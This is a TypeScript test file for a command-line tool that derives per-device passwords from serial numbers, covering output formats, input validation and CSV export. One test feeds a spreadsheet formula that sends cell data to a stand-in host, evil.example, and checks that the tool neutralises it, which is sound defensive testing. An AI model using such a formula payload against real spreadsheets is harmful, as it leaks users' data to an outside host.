import { readFileSync, statSync, writeFileSync, mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { runCli, TEST_KEY, TEST_PASSPHRASE_FILE } from './run-cli.js';

interface Vector {
  profileId: string;
  serial: string;
  serialCase: string;
  alphabet: string;
  length: number;
  attempt: number;
  canonicalSerial: string;
  password: string;
  fingerprint: string;
}
const { vectors } = JSON.parse(
  readFileSync(new URL('../vectors/derivation-v1.json', import.meta.url), 'utf8'),
) as {
  vectors: Vector[];
};
const keyArgs = ['--key', TEST_KEY, '--passphrase-file', TEST_PASSPHRASE_FILE];
const work = mkdtempSync(join(tmpdir(), 'credline-derive-'));

describe('credline derive', () => {
  it('prints exactly the password of every test vector, alone on stdout', () => {
    for (const v of vectors.filter((x) => !/[\r\n]/.test(x.serial))) {
      const args = [
        'derive',
        ...keyArgs,
        '--profile-id',
        v.profileId,
        '--serial',
        v.serial,
        '--alphabet',
        v.alphabet,
      ];
      args.push('--length', String(v.length), '--attempt', String(v.attempt), '--serial-case', v.serialCase);
      const r = runCli(args);
      expect(r.stderr).toBe('');
      expect(r.status).toBe(0);
      expect(r.stdout).toBe(`${v.password}\n`);
    }
  });

  it('--format json adds key id, fingerprint, entropy and the attempt used', () => {
    const r = runCli([
      'derive',
      ...keyArgs,
      '--profile-id',
      'acme-cam',
      '--serial',
      'KL2301-100001',
      '--format',
      'json',
    ]);
    expect(r.status).toBe(0);
    expect(JSON.parse(r.stdout)).toMatchObject({
      serial: 'KL2301-100001',
      password: 'wNADKmUL9yu5',
      attempt: 0,
      keyId: 'd9c183eb84616abf',
      fingerprint: '5863da2fda128d052d904ee3f5be36c9dbdaaacb1d2d3ed30db50af78190ca68',
      schemeVersion: 1,
      entropyBits: 69.7,
      policyAccepted: true,
      rejections: [],
    });
    expect(JSON.parse(r.stdout).zxcvbnScore).toBeGreaterThanOrEqual(3);
  });

  it('--profile supplies the scheme parameters and the policy', () => {
    const r = runCli([
      'derive',
      ...keyArgs,
      '--profile',
      'credline-agent',
      '--serial',
      'KL2301-100001',
      '--format',
      'json',
    ]);
    expect(r.stderr).toBe('');
    expect(r.status).toBe(0);
    const out = JSON.parse(r.stdout);
    expect(out).toMatchObject({
      profileId: 'credline-agent',
      keyId: 'd9c183eb84616abf',
      policyAccepted: true,
    });
    const again = runCli(['derive', ...keyArgs, '--profile', 'credline-agent', '--serial', 'KL2301-100001']);
    expect(again.stdout).toBe(`${out.password}\n`);
    const clash = runCli([
      'derive',
      ...keyArgs,
      '--profile',
      'credline-agent',
      '--length',
      '16',
      '--serial',
      'A',
    ]);
    expect(clash.status).toBe(2);
    expect(clash.stderr).toMatch(/cannot be used with option '--profile/);
    const missing = runCli(['derive', ...keyArgs, '--profile', 'no-such-profile', '--serial', 'A']);
    expect(missing.status).toBe(2);
    expect(missing.stderr).toMatch(/no profile file no-such-profile/);
  });

  it('streams CSV for a serials file with a BOM and CRLF, reporting bad lines by number', () => {
    const input = join(work, 'serials.txt');
    const serials = vectors.filter(
      (v) => v.profileId === 'acme-cam' && v.length === 12 && v.serialCase === 'asis',
    );
    const lines = [
      '\uFEFFKL2301-100001',
      '',
      'BAD\u0007SERIAL',
      'X'.repeat(129),
      'KL2301-100002',
      'Gera\u0308t-\u03a9-0042',
    ];
    writeFileSync(input, lines.join('\r\n'));
    const out = join(work, 'labels.csv');
    const r = runCli([
      'derive',
      ...keyArgs,
      '--profile-id',
      'acme-cam',
      '--serials-file',
      input,
      '--out',
      out,
    ]);
    expect(r.status).toBe(1);
    expect(r.stderr).toContain('serials.txt:2: serial is empty');
    expect(r.stderr).toContain('serials.txt:3: serial contains a control or format character U+0007');
    expect(r.stderr).toContain('serials.txt:4: serial is 129 bytes');
    expect(r.stderr).toContain('3 of 6 lines skipped');
    expect(statSync(out).mode & 0o777).toBe(0o600);
    const rows = parse(readFileSync(out), { columns: true }) as Record<string, string>[];
    expect(rows.map((row) => row['serial'])).toEqual(['KL2301-100001', 'KL2301-100002', 'Gerät-Ω-0042']);
    for (const row of rows) {
      const v = serials.find((s) => s.canonicalSerial === row['serial'] && s.attempt === 0);
      expect(row).toEqual({
        serial: v?.canonicalSerial,
        password: v?.password,
        key_id: 'd9c183eb84616abf',
        fingerprint: v?.fingerprint,
        attempt: '0',
      });
    }
  });

  it('applies the profile serial pattern as the station does: --serial refused, a file line skipped', () => {
    // credline-agent's serial pattern is ^[A-Z0-9][A-Z0-9-]{3,31}$ (and it upper-cases serials): the station
    // refuses a unit reporting "kl2301-100001" as serial-invalid, so derive gives it no password either.
    const one = runCli(['derive', ...keyArgs, '--profile', 'credline-agent', '--serial', 'kl2301-100001']);
    expect(one.status).toBe(2);
    expect(one.stdout).toBe('');
    expect(one.stderr).toBe(
      'credline: serial "kl2301-100001" does not match the profile\'s /^[A-Z0-9][A-Z0-9-]{3,31}$/\n',
    );
    const input = join(work, 'pattern-serials.txt');
    writeFileSync(input, 'KL2301-100001\nkl2301-100002\n KL2301-100003 \n');
    const file = runCli(['derive', ...keyArgs, '--profile', 'credline-agent', '--serials-file', input]);
    expect(file.status).toBe(1);
    expect(file.stderr).toContain('pattern-serials.txt:2: serial "kl2301-100002" does not match the profile');
    const rows = parse(file.stdout, { columns: true }) as Record<string, string>[];
    expect(rows.map((row) => row['serial'])).toEqual(['KL2301-100001', 'KL2301-100003']);
  });

  it('takes blank lines at the end of a serials file as no serial, not as errors', () => {
    const input = join(work, 'trailing-blank.txt');
    writeFileSync(input, 'KL2301-100001\r\nKL2301-100002\r\n\r\n  \n\n');
    const r = runCli(['derive', ...keyArgs, '--profile-id', 'acme-cam', '--serials-file', input]);
    expect(r.stderr).toBe('');
    expect(r.status).toBe(0);
    expect(parse(r.stdout, { columns: true })).toHaveLength(2);
  });

  it('neutralises a serial a spreadsheet would run as a formula, and writes the password exactly', () => {
    const input = join(work, 'formula-serials.txt');
    writeFileSync(input, '=HYPERLINK("http://evil.example/?"&A1,"x")\n@SUM(1)\n');
    const r = runCli([
      'derive',
      ...keyArgs,
      '--profile-id',
      'acme-cam',
      '--alphabet',
      'printable94',
      '--serials-file',
      input,
    ]);
    expect(r.status).toBe(0);
    const rows = parse(r.stdout, { columns: true }) as Record<string, string>[];
    expect(rows.map((row) => row['serial'])).toEqual([
      '\'=HYPERLINK("http://evil.example/?"&A1,"x")',
      "'@SUM(1)",
    ]);
    const again = runCli([
      'derive',
      ...keyArgs,
      '--profile-id',
      'acme-cam',
      '--alphabet',
      'printable94',
      '--serial',
      '@SUM(1)',
    ]);
    expect(rows[1]?.['password']).toBe(again.stdout.trimEnd());
  });

  it('reads serials from stdin and quotes passwords that need it, verbatim', () => {
    const r = runCli(
      [
        'derive',
        ...keyArgs,
        '--profile-id',
        'hub',
        '--alphabet',
        'printable94',
        '--length',
        '16',
        '--serials-file',
        '-',
      ],
      {
        input: Array.from({ length: 200 }, (_, i) => `HUB-${i}`).join('\n'),
      },
    );
    expect(r.status).toBe(0);
    const rows = parse(r.stdout, { columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(200);
    expect(rows.some((row) => /[",]/.test(row['password'] ?? ''))).toBe(true);
    for (const row of rows) expect(row['password']).toHaveLength(16);
  });

  it.each([
    [['--serial', 'A', '--length', '8'], /46\.5 bits .* at least 48 bits/],
    [['--serial', 'A', '--alphabet', 'aab'], /repeats the symbol/],
    [['--serial', 'A', '--attempt', '16'], /--attempt must be an integer 0\.\.15/],
    [[], /exactly one of --serial and --serials-file/],
    [['--serial', '\u0001A'], /control or format character/],
    [['--serials-file', '/nonexistent/serials'], /cannot read \/nonexistent\/serials: no such file/],
  ])('refuses %j with one clear line and exit 2', (extra, message) => {
    const r = runCli(['derive', ...keyArgs, '--profile-id', 'acme-cam', ...extra]);
    expect(r.status).toBe(2);
    expect(r.stderr).toMatch(message);
    expect(r.stderr).not.toMatch(/\n\s+at /);
    expect(r.stdout).toBe('');
  });

  it('a wrong passphrase is one line, exit 2, and the passphrase is not echoed', () => {
    const r = runCli(
      ['derive', '--key', TEST_KEY, '--passphrase-env', 'P', '--profile-id', 'acme-cam', '--serial', 'A'],
      {
        env: { P: 'not the fixture passphrase' },
      },
    );
    expect(r.status).toBe(2);
    expect(r.stderr.trim().split('\n')).toHaveLength(1);
    expect(r.stderr).toContain('wrong passphrase');
    expect(r.stderr).not.toContain('not the fixture passphrase');
  });
});
